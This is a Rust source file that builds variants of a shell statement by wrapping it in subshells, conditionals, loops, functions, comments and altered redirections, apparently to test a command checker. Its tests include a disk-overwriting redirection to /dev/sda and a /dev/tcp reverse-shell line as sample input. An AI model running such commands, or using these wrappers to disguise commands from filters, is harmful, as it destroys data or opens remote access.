//! Something before, after or around a statement, and redirections at another place.

use super::{Change, Line, Part};
use crate::Kind;

const fn change(name: &'static str, apply: fn(&str) -> Vec<String>) -> Change {
    Change::new(Kind::Shell, name, apply)
}

pub(super) const TABLE: &[Change] = &[
    change("true; before", |text| vec![format!("true; {text}")]),
    change("true && before", |text| {
        vec![format!("true && {}", grouped(text))]
    }),
    change("false || before", |text| {
        vec![format!("false || {}", grouped(text))]
    }),
    change("true & before", |text| vec![format!("true & {text}")]),
    change("line before", |text| vec![format!("true\n{text}")]),
    change("comment before", |text| vec![format!("# done\n{text}")]),
    change("comment after", |text| {
        vec![format!("{}# done", closed(text, " "))]
    }),
    change("; after", |text| vec![format!("{};", closed(text, ""))]),
    change("; true after", |text| {
        vec![format!("{}true", closed(text, "; "))]
    }),
    change("&& true after", |text| {
        if text.contains("<<") {
            Vec::new()
        } else {
            vec![format!("{text} && true")]
        }
    }),
    change("blanks around", |text| vec![format!("  {text}  ")]),
    change("subshell", |text| vec![format!("({})", closed(text, ""))]),
    change("group", |text| vec![format!("{{ {}}}", closed(text, "; "))]),
    change("if", |text| {
        vec![format!("if true; then {}fi", closed(text, "; "))]
    }),
    change("while", |text| {
        vec![format!("while true; do {}break; done", closed(text, "; "))]
    }),
    change("for", |text| {
        vec![format!("for i in 1; do {}done", closed(text, "; "))]
    }),
    change("case", |text| {
        vec![format!("case x in x) {};; esac", closed(text, ""))]
    }),
    change("function", |text| {
        vec![format!("f() {{ {}}}; f", closed(text, "; "))]
    }),
    change("! before", |text| vec![format!("! {}", grouped(text))]),
    change("redirection first", redirection_first),
    change("redirection without blank", |text| {
        redirections(text, "", "")
    }),
    change("redirection with blanks", |text| {
        redirections(text, "", "  ")
    }),
    change("redirection with its number", |text| {
        redirections(text, "1", " ")
            .into_iter()
            .filter(|variant| !variant.contains("1<"))
            .collect()
    }),
    change("redirection that insists", |text| {
        let Some(line) = Line::parse(text) else {
            return Vec::new();
        };
        let edits: Vec<_> = (0..line.parts.len())
            .filter(|part| line.parts[*part].0 == Part::Redirect && line.of(*part) == ">")
            .map(|part| (part, ">|".to_owned()))
            .collect();
        vec![line.with(&edits)]
    }),
];

/// The statement, ended so that more can follow; a here-document and a comment end with a line.
fn closed(text: &str, end: &str) -> String {
    if text.contains("<<") || text.contains('#') || text.trim_end().ends_with([';', '&']) {
        format!("{text}\n")
    } else {
        format!("{text}{end}")
    }
}

/// The statement as one operand of `&&`, `||` or `!`.
fn grouped(text: &str) -> String {
    match Line::parse(text) {
        Some(line)
            if line.commands().len() == 1
                && line.parts.iter().all(|(part, _)| *part != Part::Operator) =>
        {
            text.to_owned()
        }
        _ => format!("{{ {}}}", closed(text, "; ")),
    }
}

/// Redirections with a target, in front of their command.
fn redirection_first(text: &str) -> Vec<String> {
    let Some(line) = Line::parse(text) else {
        return Vec::new();
    };
    let moved = |target: usize| {
        let redirect = (0..target)
            .rev()
            .find(|part| line.parts[*part].0 == Part::Redirect)?;
        // The order of several redirections of one command matters.
        let single = line
            .parts
            .iter()
            .filter(|(part, _)| *part == Part::Redirect)
            .count()
            == 1;
        let command = line
            .commands()
            .into_iter()
            .rev()
            .find(|command| command.words[0] < redirect)?;
        single.then_some(())?;
        let extent = line.extent(&command);
        let written = &line.text[line.parts[redirect].1.start..line.parts[target].1.end];
        let without = line.with(
            &(redirect..=target)
                .map(|part| (part, String::new()))
                .collect::<Vec<_>>(),
        );
        let (head, tail) = without.split_at(extent.start);
        Some(format!("{head}{written} {tail}"))
    };
    (0..line.parts.len())
        .filter(|part| line.parts[*part].0 == Part::Target)
        .filter_map(moved)
        .collect()
}

/// Redirections to words, with other blanks and descriptor numbers.
fn redirections(text: &str, number: &str, blank: &str) -> Vec<String> {
    let Some(line) = Line::parse(text) else {
        return Vec::new();
    };
    let mut edits = Vec::new();
    for (index, (part, _)) in line.parts.iter().enumerate() {
        let written = line.of(index);
        match part {
            Part::Redirect if matches!(written, ">" | ">>") => {
                edits.push((index, format!("{number}{written}")))
            }
            Part::Blank if index > 0 && line.parts[index - 1].0 == Part::Redirect => {
                edits.push((index, blank.to_owned()));
            }
            _ => {}
        }
    }
    vec![line.with(&edits)]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn redirections_move() {
        assert_eq!(
            redirection_first("a; cat x > /dev/sda"),
            ["a; > /dev/sda cat x "]
        );
        assert_eq!(redirections("cat x > y", "1", ""), ["cat x 1>y"]);
        assert!(redirection_first("bash -i >& /dev/tcp/h/1 0>&1").is_empty());
    }

    #[test]
    fn what_follows_does_not_run_into_it() {
        assert_eq!(closed("a", "; "), "a; ");
        assert_eq!(closed("a # b", "; "), "a # b\n");
        assert_eq!(grouped("a | b"), "{ a | b; }");
        assert_eq!(grouped("a b"), "a b");
    }
}
